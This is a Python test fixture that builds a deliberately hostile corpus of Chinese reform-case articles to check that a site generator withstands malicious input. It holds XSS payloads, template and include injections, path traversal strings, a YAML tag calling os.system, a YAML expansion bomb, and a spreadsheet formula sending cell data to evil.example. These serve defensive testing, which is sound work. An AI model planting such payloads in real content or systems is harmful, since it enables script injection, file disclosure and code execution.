"""A corpus whose every word tries to be something else than text, and the site made of it.

Titles, bodies, front matter, names of parks, themes and measures, file names and addresses: each
carries what some tool on the way to a page or a file might obey.
"""

from __future__ import annotations

import json
import os
from dataclasses import dataclass
from pathlib import Path

import yaml

MARKUP = (
    "<script>alert(1)</script><img src=x onerror=alert(2)>[链](javascript:alert(3))"
    "![图](data:text/html,x)<!-- &lt;b&gt; &#60;i&#62;"
)
SYNTAX = (
    '{{ 7*7 }}{% raw %}--8<-- "/etc/hostname"[TOC]{: onclick=alert(4) #top }*[缩]: 写[^1] ~~删~~ '
    "==标== `码` :smile: @某 #1"
)
SHEETS = '=HYPERLINK("http://evil.example/?"&A1) @SUM(1) +1+1 -2'
ENDS = "]]></script></title></svg></textarea><!--"
TYPST = "#let x = 1 $y$ #include \"/etc/hostname\" #read('/etc/hostname') = 题 <标> @引 \\ _a_ *b*"
PATHS = "../../etc/passwd /etc/passwd C:\\Windows\\win.ini file:///etc/passwd \\\\host\\share"
UNSEEN = "右\u202e左\u2066中\u2069\u200b\u200d\ufeff\ue000\u061c\u034f\U000f0000\U0010fffd\U000e0041\x1b[31m末"
PILE = "e" + "\u0301\u0489" * 200
FLOOD = "e" + "\u0301\u0489" * 1_000 + "字" + "\u0338" * 500 + "\u05d0" + "\u20dd" * 300
NOON = "9" * 10_000
_PIECES = (MARKUP, SYNTAX, SHEETS, ENDS, TYPST, PATHS, UNSEEN, PILE)
HOSTILE = " ".join(_PIECES)

MEASURE = "<b onclick=alert(6)>{{ 6*6 }}一窗通办</b>"
MEASURES = (
    "<u onclick=alert(10)>蓝鲸行动",
    "一企一策{{7*7}}",
    "{% raw %}直通车[TOC]",
    "=蓝鲸|计划@SUM(1)",
    "javascript:../..蓝鲸计划",
    f"#蓝鲸$行动]]></script>{PILE}",
)
"""Each has a page of its own."""
PARK = "<i onmouseover=alert(7)>{% x %}"
DEVICES = ("con", "aux", "nul", "prn", "com1", "lpt9")
"""Names that Windows keeps for devices, with whatever ending."""

_BODY = """
今年以来，{park}推行“{measure}”，办理项目{n}个，审批用时由15个工作日压缩至{n}个工作日。

{park}推出“{own}”改革，设立服务专窗{n}个。

{hostile}办件{n}件。

!!! note "{{: onclick=alert(8) }}"
    ??? tip

--8<-- "/etc/hostname"

{noon}办件{n}件。{flood}

{told}

“{measure}很好。{ends}”{park}某某公司总经理林默说，“以前要跑3趟，现在1趟就行。”
"""
_WORDS = {
    1: ("城东做机械加工", "研究涂料配方", "把零件卖到海外"),
    2: ("河西养殖螃蟹", "给幼儿园送牛奶", "修理旧钢琴"),
    3: ("山脚酿造米醋", "出版少儿图书", "拍摄纪录影片"),
    4: ("港口装卸木材", "检测桥梁裂缝", "培训潜水教练"),
    5: ("高原种植药材", "翻译外文合同", "清洗太阳能板"),
    6: ("湖边制作渔网", "设计皮影玩具", "运输冷冻血浆"),
}
"""What tells the articles apart: the rest of their words is much the same."""
_NO_NAME = b"\xff\x1b[31m\n.md"
_REFUSED = {
    "bomb.md": "---\na: &a [x, x]\nb: &b [*a, *a]\ntitle: [*b, *b]\n---\n文。\n",
    "tag.md": "---\ntitle: !!python/object/apply:os.system ['touch pwned']\n---\n文。\n",
    "deep.md": "---\ntitle: " + "[" * 5_000 + "\n---\n文。\n",
}


@dataclass(frozen=True, slots=True)
class HostileSite:
    """What was built, and where."""

    corpus: Path
    docs: Path
    site: Path
    on_disk: Path
    """The same pages as a site that is opened from a disk."""


def built(folder: Path) -> HostileSite:
    """Build the corpus in ``folder``, to be served and to be opened from disk."""
    from generator.build import build
    from generator.publishing.site import build_site

    made = HostileSite(folder / "corpus", folder / "docs", folder / "site", folder / "disk")
    write_corpus(made.corpus)
    build(made.corpus, made.docs, made.site)
    build_site(made.docs, made.on_disk, title="营商环境改革案例集", offline=True)
    return made


def write_corpus(corpus: Path) -> None:
    """Six articles that can be read, three that cannot, parks and themes."""
    corpus.mkdir(parents=True)
    parks = [
        {"id": "con", "name": "柳江经开区", "level": HOSTILE, "place": HOSTILE},
        {"id": "aux", "name": f"{PARK}绍兴经开区", "aliases": ["绍兴经开区"], "level": ENDS},
        {"id": "lpt1", "name": f"青屏{PILE}高新区{UNSEEN}", "aliases": [HOSTILE], "parent": "con"},
    ]
    theme = {"id": "nul", "name": HOSTILE, "question": HOSTILE, "covers": [HOSTILE]}
    _write(corpus / "parks.yml", yaml.safe_dump({"title": HOSTILE, "parks": parks}))
    _write(corpus / "themes.yml", yaml.safe_dump([*_themes(), theme]))
    names = (
        "CON.md",
        "aux.md",
        "com1.txt.md",
        '8--8<--[x](y){{1}}"&.md',
        "右\u202e左.md",
        "-rf.md",
    )
    for number, name in enumerate(names, 1):
        park = "柳江经开区" if number % 2 else "绍兴经开区"
        _write(corpus / name, _article(number, park))
    for name, text in _REFUSED.items():
        _write(corpus / name, text)
    Path(os.fsdecode(bytes(corpus) + b"/" + _NO_NAME)).write_text("---\ntitle: [\n---\n")
    line = f"柳江经开区办件12件。{HOSTILE}" + "企业普遍感到满意 " * 40_000
    _write(corpus / "long.md", _head(9, "柳江经开区") + line)
    _write(corpus / "decisions.yml", json.dumps(_decisions(corpus), ensure_ascii=False))


def _decisions(corpus: Path) -> list[dict[str, object]]:
    """A person confirms, corrects, rejects and adds; whatever may be typed is hostile."""
    from generator.comparing.identity import fact_ids
    from generator.extracting.extract import extract
    from generator.extracting.lexicon import Lexicon
    from generator.reading.corpus import read_corpus

    read = read_corpus(corpus)
    article = next(article for article in read.articles if article.id == "com1.txt")
    facts = extract(article, Lexicon.load(), read.registry.parks).facts
    ids = fact_ids(facts)
    signed: dict[str, object] = {"who": HOSTILE, "when": "2024-10-08", "why": HOSTILE}
    words = {"indicator": f"件数{HOSTILE}", "unit": f"件{MARKUP}", "parks": ["柳江经开区"]}
    reading = {"value": 7, "role": "level", "theme": "approval", **words}
    return [
        {"fact": ids[0], "action": "confirm", **signed},
        {"fact": ids[1], "action": "correct", "change": {**words, "speaker": HOSTILE}, **signed},
        {"fact": ids[2], "action": "withdraw", **signed},
        {"action": "add", "article": article.id, "quote": "设立服务专窗7个", "surface": "7个",
         "reading": reading, **signed},
    ]  # fmt: skip


def _themes() -> list[dict[str, object]]:
    """The shipped themes, one of them with a name that is no text."""
    from generator.resources import lexicons_dir

    rows = yaml.safe_load((lexicons_dir() / "themes.yml").read_text(encoding="utf-8"))
    themes: list[dict[str, object]] = rows["themes"] if isinstance(rows, dict) else rows
    themes[0] = themes[0] | {"name": f"审批{MARKUP}", "question": HOSTILE}
    return themes


def _article(number: int, park: str) -> str:
    return _head(number, park) + _BODY.format(
        park=park,
        n=number + 4,
        measure=MEASURE,
        own=MEASURES[number - 1],
        hostile=_PIECES[number % len(_PIECES)],
        ends=ENDS,
        told="\n\n".join(f"{word}的企业到窗口办理。" for word in _WORDS[number]),
        noon=NOON if number == 1 else "",
        flood=FLOOD if number == 2 else "",
    )


def _head(number: int, park: str) -> str:
    fields = {
        "title": f"{HOSTILE}{number}",
        "publisher": HOSTILE,
        "carrier": HOSTILE,
        "authors": [HOSTILE],
        "editors": [HOSTILE],
        "origin": [HOSTILE],
        "published": f"2024-05-0{number}",
        "url": 'https://example.org/"><script>alert(5)</script>'
        if number % 2
        else "javascript:alert(9)",
        "rights": "open",
        "subject": park,
    }
    head = yaml.safe_dump(fields, allow_unicode=True, width=100_000)
    return f"---\n{head}---\n\n"


def _write(path: Path, text: str) -> None:
    path.write_text(text, encoding="utf-8")
